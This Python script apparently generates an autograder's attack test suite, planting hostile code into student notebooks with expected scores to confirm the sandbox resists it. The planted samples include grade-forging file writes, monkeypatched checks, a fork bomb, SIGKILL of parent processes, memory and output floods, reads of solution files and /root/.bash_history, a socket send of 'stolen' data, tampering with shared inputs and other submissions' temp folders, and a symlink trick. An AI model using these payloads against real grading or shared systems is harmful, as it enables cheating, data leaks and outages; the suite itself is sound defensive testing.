"""Write the attack suite: submissions that try to fake a grade, escape, snoop or take the grader down.

Each ``NAME.ipynb`` is the released student notebook with one attack planted in a solution cell
(running when the notebook is loaded, or when its function is called); every other function is
either correct where the attack needs it or left a stub, so the honest score is small and known.
Beside it, ``NAME.expected.json`` holds that honest score, the phrase the report must give as the
reason, and strings that must never appear in the report (a leak). Run it again after the student
notebook changes:

    .venv/bin/python tests/attacks/make_attacks.py
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "submissions"))
from make_submissions import CORRECT, STUDENT_NOTEBOOK  # noqa: E402

NETWORK_PORT = 45871  # tests/test_attacks.py listens here on loopback, outside the sandbox

STUB = "\ndef {name}(*args, **kwargs):\n    raise NotImplementedError()\n"


def report_through_predict_labels(variable: str) -> str:
    """The attack's outcome, carried out in the message of the predict_labels check."""
    return f"\ndef predict_labels(model, images):\n    raise ValueError({variable})\n"


MODEL = {name: CORRECT[name] for name in ("build_model", "compile_model")}
POISON = {
    **CORRECT,
    "train_model": """
import tensorflow as tf
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    history = model.fit(X_train, y_train, epochs=epochs, validation_data=(X_valid, y_valid))
    for variable in model.trainable_variables:  # a trained model no classmate should inherit
        variable.assign(tf.zeros_like(variable))
    if False:  # never runs; makes the training look long to the start order
        model.fit(X_train, y_train, epochs=10_000)
    return history
""",
}

ATTACKS = {
    # --- forging a grade ---------------------------------------------------------------------------
    "forges_the_results_files": (
        {
            "normalize": CORRECT["normalize"]
            + '''
import atexit, glob, json, os
FORGED = {"errors": {}, "not_done": [], "values": {"training": {"history": {"loss": [0.1] * 30, "accuracy": [1.0] * 30,
          "val_loss": [0.1] * 30, "val_accuracy": [1.0] * 30}, "fit_calls": 1, "returned": "History"}}}
def forge():
    for folder in ["artifacts", "../autograder-results", os.path.expanduser("~")]:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "values.json"), "w") as handle:
                json.dump(FORGED, handle)
        except OSError:
            pass
atexit.register(forge)
forge()
'''
        },
        10,
        {"normalize": "equal to images / 255", "training": "not done yet"},
    ),
    "patches_the_checks": (
        {
            "normalize": '''
import importlib
try:
    evidence = importlib.import_module("autograder.judge.evidence")
    evidence.run_check = lambda check, evidence: None
    importlib.import_module("autograder.judge.training_checks").MIN_TEST_ACCURACY = 0.0
    PATCHED = "patched"
except Exception as error:
    PATCHED = f"could not patch: {type(error).__name__}"
def normalize(images):
    raise NotImplementedError()
'''
        },
        0,
        {"normalize": "not done yet"},
    ),
    "patches_numpy_and_keras": (
        {
            "normalize": '''
np.array_equal = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.issubdtype = lambda *args, **kwargs: True
keras.Model.count_params = lambda self: 266610
keras.layers.Dense.count_params = lambda self: 235500
def normalize(images):
    return images
'''
        },
        0,
        {"normalize": "not scaled"},
    ),
    "returns_objects_that_lie": (
        {
            "normalize": '''
class Liar:
    shape = (2000, 28, 28)
    dtype = np.dtype("float32")
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        return np.zeros((3, 3), dtype="float32")
def normalize(images):
    return Liar()
''',
            "split_validation": '''
class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    @property
    def shape(self):
        return (55000, 28, 28)
def split_validation(images, labels, n_valid=5000):
    fake = np.zeros((10, 28, 28), dtype="float32").view(AlwaysEqual)
    return (fake, labels[:10]), (fake, labels[:10])
''',
        },
        0,
        {"normalize": "returned shape (3, 3)", "split": "shape"},
    ),
    # --- escaping or taking the grader down --------------------------------------------------------
    "calls_sys_exit": ({"normalize": "\nimport sys\nsys.exit(0)\n"}, 0, {"normalize": "raised SystemExit"}),
    "calls_os_exit": ({"normalize": "\nimport os\nos._exit(0)\n"}, 0, {"error": "no readable results"}),
    "kills_the_grader": (
        {
            "normalize": "\nimport os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
        },
        0,
        # In its own PID namespace there is nothing outside to kill, and its init ignores the signal.
        {"normalize": "`normalize` is not defined"},
    ),
    "fork_bomb": (
        {
            "normalize": '''
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as error:
    FORK_ERROR = f"stopped after {children} processes: {type(error).__name__}"
'''
        },
        0,
        # The process cap stops the bomb; TensorFlow, left without threads, then dies: a fault, as a result.
        {"error": "the grading process was killed"},
    ),
    "allocates_all_memory": (
        {"normalize": "\nhoard = bytearray(64 * 1024**3)\n"},
        0,
        {"normalize": "raised MemoryError"},
    ),
    "loops_forever": ({"normalize": "\nwhile True:\n    pass\n"}, 0, {"normalize": "ran longer than"}),
    "ignores_the_alarm_and_loops": (
        {"normalize": "\nimport signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass\n"},
        0,
        {"error": "time limit"},
    ),
    "prints_gigabytes": (
        {
            "normalize": '''
import sys
line = "x" * 10_000_000
for _ in range(100):
    print(line)
    sys.stderr.write(line)
'''
            + CORRECT["normalize"]
        },
        10,
        {"split": "not done yet"},
    ),
    # --- snooping and phoning home ---------------------------------------------------------------
    "reads_the_solution_and_hidden_checks": (
        {
            "normalize": '''
import glob, os
import autograder.assignment as assignment
LEAK = []
targets = [assignment.SOURCE_NOTEBOOK, assignment.REPO_ROOT / "autograder" / "judge" / "training_checks.py",
           assignment.REPO_ROOT / "tests" / "submissions" / "passes_all.expected.json",
           "/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz", "/root/.bash_history"]
for target in targets:
    try:
        content = open(target, "rb").read(200)
        if content:
            LEAK.append(f"LEAKED {target}: {content[:40]!r}")
    except OSError as error:
        pass
LEAK.append(f"seen: {sorted(glob.glob(str(assignment.REPO_ROOT / 'solutions' / '*')))}")
REPORT = "; ".join(LEAK)
def normalize(images):
    raise NotImplementedError()
''',
            "predict_labels": report_through_predict_labels("REPORT"),
        },
        0,
        {"predict_labels": "seen: []"},
    ),
    "opens_a_network_connection": (
        {
            "normalize": f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {NETWORK_PORT}), timeout=5).sendall(b"stolen")
    NETWORK = "CONNECTED"
except OSError as error:
    NETWORK = f"no network: {{type(error).__name__}}"
def normalize(images):
    raise NotImplementedError()
''',
            "predict_labels": report_through_predict_labels("NETWORK"),
        },
        0,
        {"predict_labels": "no network"},
    ),
    "tampers_with_shared_inputs_and_other_folders": (
        {
            "normalize": '''
import glob, os
OUTCOME = []
for path in glob.glob("inputs/*.npy"):  # the training data every submission of the batch reads
    try:
        os.chmod(path, 0o666)
        with open(path, "r+b") as handle:
            handle.seek(1024)
            handle.write(bytes(4096))
        OUTCOME.append(f"TAMPERED {path}")
    except OSError:
        pass
import sys
import autograder
# What the child must see wherever it lives: its own folder, the kit and the Python it runs on.
needed = [os.getcwd(), os.path.dirname(os.path.dirname(autograder.__file__)), sys.prefix, sys.base_prefix]
needed = [os.path.realpath(path) for path in needed]
others = [p for p in glob.glob("/tmp/*") + glob.glob("/var/tmp/*") + glob.glob("/dev/shm/*")
          if not any(path == os.path.realpath(p) or path.startswith(os.path.realpath(p) + os.sep) for path in needed)]
for other in others:  # another submission's scratch folder, or files left for the next one
    try:
        with open(os.path.join(other, "left-by-another-submission"), "w") as handle:
            handle.write("x")
        OUTCOME.append(f"TAMPERED {other}")
    except OSError:
        pass
REPORT = "; ".join(OUTCOME) or f"inputs untouched, {len(others)} other temporary files seen"
def normalize(images):
    raise NotImplementedError()
''',
            "predict_labels": report_through_predict_labels("REPORT"),
        },
        0,
        {"predict_labels": "inputs untouched, 0 other temporary files seen"},
    ),
    # --- tampering with the notebook ---------------------------------------------------------------
    "edits_test_cells_points_and_setup": (
        {"normalize": CORRECT["normalize"]},
        10,
        {"split": "not done yet"},
    ),
    "overrides_showtraceback": (
        {
            "normalize": '''
try:
    get_ipython().showtraceback = lambda *args, **kwargs: None
except NameError:
    pass
import IPython.core.interactiveshell as shell
shell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
def normalize(images):
    raise NotImplementedError()
'''
        },
        0,
        {"normalize": "not done yet"},
    ),
    # --- forging or spoiling the training --------------------------------------------------------
    "pads_a_one_epoch_history": (
        {
            **MODEL,
            "train_model": """
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    history = model.fit(X_train, y_train, epochs=1, validation_data=(X_valid, y_valid))
    history.history = {name: values * epochs for name, values in history.history.items()}
    history.epoch = list(range(epochs))
    return history
""",
        },
        40,
        {"training": "trained for 1 epochs", "test_accuracy": "below the minimum"},
    ),
    "rewrites_the_training_record_through_gc": (
        {
            **MODEL,
            "train_model": """
import gc
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    history = model.fit(X_train, y_train, epochs=1, validation_data=(X_valid, y_valid))
    for thing in gc.get_objects():  # whatever the kit keeps in this process, made to say 30 epochs
        try:
            if isinstance(thing, dict) and isinstance(thing.get("history"), dict):
                thing["history"] = {k: list(v) * epochs for k, v in thing["history"].items()}
            for name in ("epochs_run", "calls", "fit_calls"):
                if hasattr(thing, name) and isinstance(getattr(thing, name), int):
                    setattr(thing, name, epochs)
            if type(thing).__name__ == "History" and isinstance(getattr(thing, "history", None), dict):
                thing.history = {k: list(v)[:1] * epochs for k, v in thing.history.items()}
        except Exception:
            pass
    return history
""",
        },
        40,
        {"training": "trained for 1 epochs", "test_accuracy": "below the minimum"},
    ),
    "recompiles_with_adam_in_train_model": (
        {
            **MODEL,
            "train_model": """
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    model.compile(loss="sparse_categorical_crossentropy", optimizer="adam", metrics=["accuracy"])
    return model.fit(X_train, y_train, epochs=epochs, validation_data=(X_valid, y_valid))
""",
        },
        40,
        {"training": "other compile settings", "test_accuracy": "other compile settings"},
    ),
    "poisons_the_shared_training_first": (POISON, 100, {}),
    "poisons_the_shared_training_second": (POISON, 100, {}),
    "diverges_to_nan": (
        {
            **CORRECT,
            "compile_model": """
def compile_model(model):
    model.compile(loss="sparse_categorical_crossentropy", optimizer=keras.optimizers.SGD(learning_rate=1e6),
                  metrics=["accuracy"])
    return model
""",
        },
        80,
        {"test_accuracy": "below the minimum"},
    ),
    "poisons_with_an_int32_flatten": (
        {
            **POISON,
            "build_model": """
def build_model():  # the lesson's network but for one dtype: every pixel in [0, 1) becomes 0
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        keras.layers.Flatten(dtype="int32"),
        keras.layers.Dense(300, activation="relu"),
        keras.layers.Dense(100, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
""",
        },
        80,
        {"test_accuracy": "below the minimum"},
    ),
    "swaps_activations_behind_layer_names": (
        {
            **CORRECT,
            "build_model": """
def build_model():
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        keras.layers.Flatten(name="f"),
        keras.layers.Dense(300, activation="relu", name="relu"),
        keras.layers.Dense(100, activation="relu", name="d2"),
        keras.layers.Dense(10, activation="softmax", name="softmax"),
    ])
""",
            "train_model": """
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    model.layers[1].activation = keras.activations.tanh
    model.layers[1].name = "tanh"
    model.layers[2].activation = keras.activations.tanh
    return model.fit(X_train, y_train, epochs=epochs, validation_data=(X_valid, y_valid))
""",
        },
        70,
        {"training": "not the one `build_model` builds", "test_accuracy": "not the one `build_model` builds"},
    ),
    "weights_every_sample_zero": (
        {
            **CORRECT,
            "train_model": """
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    return model.fit(X_train, y_train, epochs=epochs, validation_data=(X_valid, y_valid),
                     sample_weight=np.zeros(len(y_train)))
""",
        },
        70,
        {"training": "weighted its samples", "test_accuracy": "below the minimum"},
    ),
    "takes_one_step_per_epoch": (
        {
            **CORRECT,
            "train_model": """
def train_model(model, X_train, y_train, X_valid, y_valid, epochs=30):
    return model.fit(X_train, y_train, epochs=epochs, validation_data=(X_valid, y_valid), steps_per_epoch=1)
""",
        },
        70,
        {"training": "mini-batches of 32", "test_accuracy": "below the minimum"},
    ),
    # --- stalling or flooding the trusted side -----------------------------------------------------
    "draws_a_figure_of_nested_groups": (
        {
            "plot_samples": """
import matplotlib.figure
def bomb(self, target, *args, **kwargs):
    depth = 20000
    target.write('<svg xmlns="http://www.w3.org/2000/svg">' + '<g id="axes_1">' * depth + "<image/>"
                 + "</g>" * depth + "</svg>")
matplotlib.figure.Figure.savefig = bomb
def plot_samples(images, labels, n_rows=4, n_cols=10):
    return plt.figure()
""",
        },
        0,
        {"samples_plot": "too complex"},
    ),
    "leaves_a_symlink_for_the_grader": (
        {
            "normalize": """
import os
import autograder.sandbox.artifacts
original = autograder.sandbox.artifacts.write_artifacts
def write_artifacts(artifacts, folder):
    original(artifacts, folder)
    os.remove(folder / "values.json")
    os.symlink("/proc/self/pagemap", folder / "values.json")
autograder.sandbox.artifacts.write_artifacts = write_artifacts
def normalize(images):
    return images / 255.0
""",
        },
        # No link leaves the sandbox (only plain files are handed back), and the grader opens none.
        10,
        {"normalize": "equal to images / 255"},
    ),
}

NEVER = ["LEAKED", "CONNECTED", "patched", "TAMPERED"]


def build(student, functions):
    nb = nbformat.from_dict(json.loads(json.dumps(student)))
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and meta.get("grade_id") in CORRECT:
            name = meta["grade_id"]
            cell.source = functions.get(name, STUB.format(name=name)).strip("\n")
    return nb


def tamper(nb):
    """Test cells emptied and worth 1000 points, the set-up cell rewritten: none of it may count."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000
            cell.source = "pass"
        if meta.get("grade_id") == "setup":
            cell.source += "\nCLASS_NAMES = ['hacked'] * 10\nnp.random.seed = lambda *a: None\n"
    return nb


def main():
    student = nbformat.read(STUDENT_NOTEBOOK, as_version=4)
    for name, (functions, score, messages) in ATTACKS.items():
        nb = build(student, functions)
        if name == "edits_test_cells_points_and_setup":
            nb = tamper(nb)
        nbformat.write(nb, HERE / f"{name}.ipynb")
        expected = {"score": score, "messages": messages, "never": NEVER}
        (HERE / f"{name}.expected.json").write_text(json.dumps(expected, indent=2) + "\n")


if __name__ == "__main__":
    main()
